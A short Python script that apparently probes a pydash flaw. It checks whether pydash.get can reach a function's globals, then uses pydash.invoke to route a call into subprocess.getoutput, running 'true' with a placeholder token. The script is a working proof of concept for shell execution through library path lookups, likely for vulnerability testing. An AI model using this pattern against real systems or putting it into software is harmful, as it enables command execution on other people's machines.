import subprocess

import pydash

def flawed():
    try:
        return isinstance(pydash.get(flawed, "__globals__"), dict)
    except Exception:
        return False


class Runner:
    start = staticmethod(subprocess.getoutput)

if flawed():
    pydash.invoke({"runner": Runner}, "runner.start", "true @@TOKEN@@")
